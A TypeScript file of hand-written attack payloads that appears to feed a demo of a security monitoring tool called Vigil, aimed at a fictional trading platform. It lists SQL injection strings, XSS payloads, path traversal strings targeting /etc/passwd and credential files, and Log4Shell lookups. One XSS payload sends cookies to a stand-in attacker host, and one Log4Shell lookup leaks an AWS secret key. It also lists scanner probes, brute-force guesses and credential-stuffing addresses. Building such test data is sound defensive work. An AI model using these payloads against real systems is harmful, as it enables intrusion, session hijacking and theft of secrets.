// Attack payloads for the demo, hand-written for Vigil: no public payload list and no corpus line was
// copied. They are the kinds of strings real tools and people send, aimed at this fictional platform,
// and they carry no working callback: hosts are .example names or documentation addresses.

/** SQL injection for query parameters: tautologies, UNION SELECT, stacked and time-based. */
export const SQLI = [
  "7203.T' OR '1'='1",
  '1 OR 1=1--',
  "open' OR 'x'='x' -- ",
  "') OR ('a'='a",
  "nobody'/**/OR/**/2>1#",
  '0 UNION SELECT account_id, password_hash FROM desk_users--',
  "-5' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -",
  '1 AND 1=2 UNION SELECT version(),current_user,NULL--',
  "1' AND SLEEP(6)-- -",
  '42); SELECT pg_sleep(7)--',
  "filled' WAITFOR DELAY '0:0:6'--",
  "9984.T' AND extractvalue(1,concat(0x7e,(SELECT user())))--",
  "1' AND (SELECT COUNT(*) FROM pg_catalog.pg_tables)>0 AND '1'='1",
] as const

/** True for the time-based payloads, which make the upstream answer seconds late. */
export const isTimeBased = (p: string): boolean => /sleep|waitfor/i.test(p)

/** Cross-site scripting for a body field (watchlist name, order note) or a search parameter. */
export const XSS = [
  "<script>fetch('https://c2.attacker.example/c?'+document.cookie)</script>",
  '"><img src=x onerror=alert(document.domain)>',
  '<svg/onload=confirm(7203)>',
  "javascript:alert('desk')",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onpageshow=alert(1)>',
  '\'"><details open ontoggle=prompt(1)>',
  '<a href="jav&#x61;script:alert(1)">chart</a>',
  '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
  '<input autofocus onfocus=alert(document.cookie)>',
  '<video><source onerror="alert(1)"></video>',
  '</textarea><script src=//cdn.attacker.example/k.js></script>',
] as const

/** Path traversal in the path itself, sent with --path-as-is so the `../` reaches the gateway. */
export const TRAVERSAL_PATHS = [
  '/static/../../../../etc/passwd',
  '/api/v1/watchlists/..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/api/v1/orders/%2e%2e/%2e%2e/%2e%2e/etc/shadow',
  '/health/..%252f..%252f..%252fetc%252fhosts',
  '/api/v1/instruments/..%5c..%5c..%5cwindows%5cwin.ini',
  '/ml/v1/models/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
] as const

/** Path traversal in a parameter of the executions export, raw or encoded as a tool would send it. */
export const TRAVERSAL_PARAMS = [
  ['file', '../../../../etc/passwd'],
  ['template', '....//....//....//etc/passwd'],
  ['path', '%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron'],
  ['doc', '..%2F..%2F..%2F..%2Fvar%2Flog%2Fkong%2Faccess.log'],
  ['attachment', '/etc/passwd%00.pdf'],
  ['lang', '../../../../../../boot.ini'],
  ['file', '..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts'],
] as const

/** What a scanner probes for on an API that has none of it; Kong answers 404 itself. */
export const SCANNER_PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/actuator/env',
  '/actuator/heapdump',
  '/.aws/credentials',
  '/server-status',
  '/phpinfo.php',
  '/config.json',
  '/.DS_Store',
  '/backup/db.sql',
  '/swagger-ui.html',
  '/v2/api-docs',
  '/debug/pprof/',
  '/.svn/entries',
  '/admin/login',
] as const

/** Tool signatures a scanner announces in its User-Agent. */
export const SCANNER_AGENTS = [
  'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
  'Nikto/2.5.0',
  'Fuzz Faster U Fool v2.1.0',
  'gobuster/3.6',
] as const

/** The sqlmap signature (the tool sends it unless told to pick a random agent). */
export const SQLMAP_AGENT = 'sqlmap/1.8.11#stable (https://sqlmap.org)'

/** Log4Shell lookups for a header, nested and case-tricked as attackers do to dodge naive filters. */
export const LOG4SHELL = [
  '${jndi:ldap://198.51.100.9:1389/Exploit}',
  '${${lower:j}ndi:${lower:l}dap://k3x9.oast.example/a}',
  '${jndi:${lower:r}mi://203.0.113.66:1099/obj}',
  '${${::-j}${::-n}${::-d}${::-i}:dns://v7q2.oast.example}',
  '${jndi:ldaps://192.0.2.200/${env:AWS_SECRET_ACCESS_KEY}}',
  '${j${upper:n}di:ldap://q1.oast.example/${sys:java.version}}',
] as const

/** Where a Log4Shell lookup is planted: headers a Java service is likely to log. */
export const LOG4SHELL_HEADERS = [
  'user-agent',
  'x-api-version',
  'referer',
  'x-forwarded-for',
] as const

/** Passwords a brute-force run tries; obviously not anyone's real password. */
export const GUESSES = [
  'password1', 'Password123!', 'kabu2026', 'nikkei225', 'tokyo1234', 'qwerty!', 'letmein',
  'Trader#1', 'winter2026', 'admin123', 'welcome1', 'sakura2026', 'Passw0rd', '12345678',
] as const // prettier-ignore

/** Leaked-looking addresses a credential-stuffing run cycles through (example domains only). */
export const STUFFED_USERS = [
  'taro.yamada@mail.example', 'hanako.s@mail.example', 'kenji77@webmail.example',
  'j.doe@corp.example', 'trader.jp@mail.example', 'yuki.m@webmail.example', 'admin@hanami-trade.example',
  'support@hanami-trade.example', 'test@hanami-trade.example', 'ryo.k@mail.example',
] as const // prettier-ignore
